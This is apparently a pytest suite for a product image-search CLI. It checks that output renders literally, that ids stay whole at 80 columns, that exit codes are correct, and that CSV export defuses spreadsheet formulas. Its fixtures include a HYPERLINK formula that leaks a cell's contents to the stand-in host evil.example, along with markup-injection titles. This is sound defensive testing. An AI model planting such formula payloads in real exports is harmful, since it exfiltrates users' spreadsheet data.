"""What `vasrch` prints: data literally (never as rich markup), ids whole at 80 columns, the
train summary's figures, the progress bar's totals, and the error policy of `main`."""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
import yaml
from rich.console import Console
from rich.progress import Progress

from vasrch.cli import main
from vasrch.cli.output import print_table
from vasrch.cli.progress_bar import sink_for
from vasrch.cli.train import quality_summary
from vasrch.workspace import runs

# Titles and links a shop might really have, which rich would read as markup, or a
# spreadsheet as a formula.
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Sale")'
HOSTILE = [
    "Shorts [/sale]",
    "[link=https://evil.example]Free shoes[/link]",
    "[bold red]LOUD[/]",
    FORMULA,
]
BROKEN = "hat/[red]broken[link=x].jpg"


def vasrch(*args: str, columns: int | None = None) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "COLUMNS"}
    if columns:
        env["COLUMNS"] = str(columns)
    return subprocess.run(
        [sys.executable, "-m", "vasrch.cli", *args],
        capture_output=True,
        text=True,
        timeout=600,
        env=env,
    )


def test_importing_the_cli_loads_nothing_heavy():
    code = (
        "import sys, vasrch.cli; print([m for m in ('tensorflow', 'keras', 'prefect', 'pandas', "
        "'rich') if m in sys.modules])"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


def table_width(text: str) -> int:
    """The widest line of the tables in `text` (title and query lines wrap in the terminal)."""
    return max(len(line) for line in text.splitlines() if line[:1] in "┏┃┡│└")


def render(rows: list[dict], width: int, title: str | None = None) -> str:
    out = io.StringIO()
    print_table(rows, title, Console(file=out, width=width))
    return out.getvalue()


def test_a_wide_table_keeps_its_ids_whole_and_wraps_or_drops_the_rest():
    rows = [
        {
            "query": f"/uploads/{i}/shoe.jpg",
            "rank": i,
            "product_id": f"SHOP-EU-WINTER-COLLECTION-{i:04d}",
            "score": 0.5,
            "title": "a long product title that wraps " * 3,
            "url": f"https://shop.example/products/{i}",
        }
        for i in range(3)
    ]
    text = render(rows, 80)
    assert table_width(text) <= 80
    for row in rows:
        assert row["query"] in text and row["product_id"] in text
    assert "…" not in text
    # ids that leave too little room: the rightmost other columns go first
    assert "url" not in text and "title" not in text and "score" in text
    wrapped = render(rows, 100)
    assert table_width(wrapped) <= 100
    assert "url" in wrapped and "title" in wrapped and rows[2]["product_id"] in wrapped
    wide = render(rows, 400)
    assert "url" in wide and rows[0]["title"].strip() in wide
    narrow = render(rows, 40)  # ids alone wider than the console: folded, every character kept
    assert "…" not in narrow
    assert narrow.count("│ SHOP-EU-WINTER-COLLECT │") == 3 and "│ ION-0002 " in narrow


def test_table_cells_and_titles_are_printed_literally():
    rows = [{"product_id": "P1", "title": t} for t in HOSTILE]
    text = render(rows, 200, title="[bold]run[/bold] [link=x]")
    for t in [*HOSTILE, "[bold]run[/bold] [link=x]"]:
        assert t in text


def test_quality_summary_labels_each_kind_of_query_and_prints_counts_as_integers():
    metrics = {
        "probes": 9.0,
        "recall_at_10": 0.95,
        "leave_one_out_queries": 200.0,
        "leave_one_out_recall_at_10": 0.9812,
        "held_out_queries": 50.0,
        "held_out_recall_at_10": 0.95,
        "held_out_precision_at_10": 0.5,
    }
    rows, line = quality_summary(metrics, "50 held-out photos")
    assert rows[0] == {"figure": "queries", "leave-one-out": "200", "held-out": "50"}
    assert rows[1] == {"figure": "recall@10", "leave-one-out": "0.9812", "held-out": "0.9500"}
    assert rows[2] == {"figure": "precision@10", "leave-one-out": "-", "held-out": "0.5000"}
    assert line == "probes 9, calibrated on 50 held-out photos (recall@10 0.9500)"
    only_catalog, _ = quality_summary(
        {"probes": 3.0, "leave_one_out_queries": 16.0}, "16 catalog photos"
    )
    assert only_catalog == [{"figure": "queries", "leave-one-out": "16"}]


def test_a_stage_reported_twice_counts_both_totals():
    """The train flow extracts the catalog, then the held-out photos, under one stage: its
    bar read `extract 350/50` when the second total replaced the first."""
    with Progress(console=Console(file=io.StringIO()), auto_refresh=False) as bar:
        sink = sink_for(bar)
        sink("extract", 0, 350)
        sink("extract", 350, None)
        sink("extract", 0, 50)
        sink("extract", 50, None)
        sink("kmeans", 0, 1)
        (extract, kmeans) = bar.tasks
    assert (extract.completed, extract.total) == (400, 400)
    assert (kmeans.completed, kmeans.total) == (0, 1)


def test_a_bug_is_an_unexpected_error_with_exit_1_and_a_vasrch_error_exit_2(tmp_path, capsys):
    # a NUL byte in a path makes Python itself raise ValueError: not a vasrch error
    assert main(["runs", "prune", "--keep", "0", "--workspace", "ws\0x"]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("vasrch: unexpected error: ValueError: ")
    assert err[0].endswith("(a bug; run with -v for the traceback)")
    assert main(["runs", "show", "nope", "--workspace", str(tmp_path)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert err == [f"vasrch: error: run 'nope' not found or incomplete in {tmp_path / 'runs'}"]


@pytest.fixture(scope="module")
def shop(tmp_path_factory, demo_catalog):
    """A catalog listed by a manifest whose titles and links hold rich markup, long product
    ids, an unreadable photo with markup in its name, and held-out photos; trained with
    `vasrch train CONFIG` at 80 columns, with the progress bar."""
    from vasrch.catalog.demo import generate_demo_catalog

    root = tmp_path_factory.mktemp("shop")
    catalog = root / "catalog"
    shutil.copytree(demo_catalog, catalog)
    (catalog / BROKEN).write_bytes(b"not an image")
    images = sorted(p.relative_to(catalog).as_posix() for p in catalog.glob("*/*"))
    rows = [
        {
            "product_id": f"SHOP-EU-WINTER-COLLECTION-{i // 2:04d}",
            "image": image,
            "category": image.split("/")[0],
            "title": HOSTILE[i % len(HOSTILE)],
            "url": f"[link=https://evil.example]{i}[/link]" if i % 3 else f"@SUM({i})",
        }
        for i, image in enumerate(images)
    ]
    pd.DataFrame(rows).to_csv(root / "products.csv", index=False)
    generate_demo_catalog(root / "queries", per_class=1, seed=7)
    config = root / "shop.yaml"
    config.write_text(
        yaml.safe_dump(
            {
                "catalog": {"path": "catalog", "manifest": "products.csv"},
                "workspace": "ws",
                "features": {"shard_size": 16},
                "clustering": {"num_clusters": 4},
                "evaluation": {"sample": 16, "queries": "queries"},
                "bulk": {"enabled": True, "top_n": 4},
            }
        )
    )
    trained = vasrch("train", "--config", str(config), columns=80)
    assert trained.returncode == 0, trained.stderr[-3000:]
    return config, pd.DataFrame(rows), trained


def test_train_summary_prints_counts_as_integers_labelled_figures_and_the_report(shop):
    config, _, trained = shop
    out = trained.stdout
    # TensorFlow's absl/oneDNN/CUDA start-up lines are kept off the terminal without -v
    assert not re.search(r"^[IWE]0000 |absl::InitializeLog|cuInit", trained.stderr, re.M)
    workspace = config.parent / "ws"
    assert f"run: {workspace / 'runs' / runs.latest_run_id(workspace)}" in out, out
    assert re.search(r"^suggested k: \d+ +chosen k: 4$", out, re.M), out
    assert re.search(r"^probes \d+, calibrated on 8 held-out photos \(recall@10", out, re.M), out
    assert re.search(r"┃ figure +┃ leave-one-out +┃ held-out +┃", out), out
    assert "recall_at_10" not in out, out
    # counts are whole numbers (a figure may be 1.0000; a count is never 16.0000)
    assert re.search(r"^photos: 49 seen = 48 extracted \+ 0 reused", out, re.M), out
    assert re.search(r"│ queries +│ 16 +│ 8 +│", out), out
    last = out.strip().splitlines()[-1]
    assert last.startswith("report: ") and last.endswith("report.html")
    assert Path(last.removeprefix("report: ")).is_file()
    # the bar counts the catalog's photos and the held-out ones under one total
    done, total = re.search(r"extract\s.*?(\d+)/(\d+)", trained.stderr).groups()
    assert done == total and int(total) > 48, trained.stderr


def test_query_table_names_each_query_once_and_keeps_ids_whole_at_80_columns(
    shop, demo_catalog, monkeypatch, capsys
):
    config, _, _ = shop
    queries = [str(p) for p in sorted(demo_catalog.glob("*/*"))[:2]]
    table = vasrch("query", str(config), *queries, "--format", "table", "--top-n", "3", columns=80)
    assert table.returncode == 0, table.stderr
    # the same command in this process, piped without COLUMNS, then as CSV
    monkeypatch.delenv("COLUMNS", raising=False)
    table_args = ["--config", str(config), "--format", "table", "--top-n", "3"]
    assert main(["query", *queries, *table_args]) == 0
    same = capsys.readouterr()
    csv = ["query", *queries, "-c", str(config), "--format", "csv", "--top-n", "3", "--raw-csv"]
    assert main(csv) == 0
    answers = pd.read_csv(io.StringIO(capsys.readouterr().out))
    lines = table.stdout.splitlines()
    assert table_width(table.stdout) <= 80, table.stdout
    for query in queries:
        assert lines.count(f"query: {query}") == 1 and table.stdout.count(query) == 1
    for value in [*answers["product_id"], *answers["image_id"]]:
        assert value in table.stdout, value
    # piped without COLUMNS nothing is cut, and every title prints as written
    for title in answers["title"]:
        assert title in same.out
    assert "[link=https://evil.example]" in same.out and "MarkupError" not in same.err


def formula_cells(cells: pd.DataFrame) -> pd.DataFrame:
    """Where a text cell would start a spreadsheet formula (numbers, negative ones too, are
    not text)."""
    text = cells.apply(lambda column: pd.to_numeric(column, errors="coerce").isna())
    return text & cells.apply(lambda column: column.str.match(r"[=+\-@\t\r]"))


@pytest.mark.slow  # long: run with -m slow
def test_csv_exports_defuse_formulas_unless_raw(shop, demo_catalog):
    config, _, _ = shop
    queries = [str(p) for p in sorted(demo_catalog.glob("*/*"))[:3]]
    commands = [
        ("query", *queries, "-c", str(config), "--format", "csv", "--top-n", "12"),
        ("duplicates", str(config), "--threshold", "0.01", "--format", "csv"),
    ]
    for command in commands:
        safe, raw = vasrch(*command), vasrch(*command, "--raw-csv")
        assert safe.returncode == raw.returncode == 0, safe.stderr + raw.stderr
        raw_cells = pd.read_csv(io.StringIO(raw.stdout), dtype=str, keep_default_na=False)
        safe_cells = pd.read_csv(io.StringIO(safe.stdout), dtype=str, keep_default_na=False)
        starts = formula_cells(raw_cells)
        assert starts.any().any(), raw.stdout  # the titles and links made it into the CSV
        pd.testing.assert_frame_equal(safe_cells, raw_cells.where(~starts, "'" + raw_cells))
        assert not formula_cells(safe_cells).any().any()


def test_runs_list_shows_whole_run_ids_at_80_columns(shop):
    config, _, _ = shop
    listed = vasrch("runs", "list", str(config), columns=80)
    assert listed.returncode == 0, listed.stderr
    folders = (config.parent / "ws" / "runs").iterdir()
    run_ids = [p.name for p in folders if p.is_dir() and not p.name.startswith(".")]
    assert run_ids and all(run_id in listed.stdout for run_id in run_ids)
    assert table_width(listed.stdout) <= 80
    shown = vasrch("runs", "show", str(config), run_ids[0])
    assert shown.returncode == 0 and "artifacts verified: " in shown.stdout, shown.stderr


def test_duplicates_and_extract_print_data_literally(shop, monkeypatch, capsys):
    config, _, _ = shop
    monkeypatch.delenv("COLUMNS", raising=False)
    assert main(["duplicates", str(config), "--threshold", "0.01"]) == 0
    groups = capsys.readouterr().out
    assert "[link=https://evil.example]" in groups
    assert "SHOP-EU-WINTER-COLLECTION-" in groups
    monkeypatch.setenv("COLUMNS", "80")
    assert main(["extract", str(config), "--no-progress"]) == 0
    assert BROKEN in capsys.readouterr().out
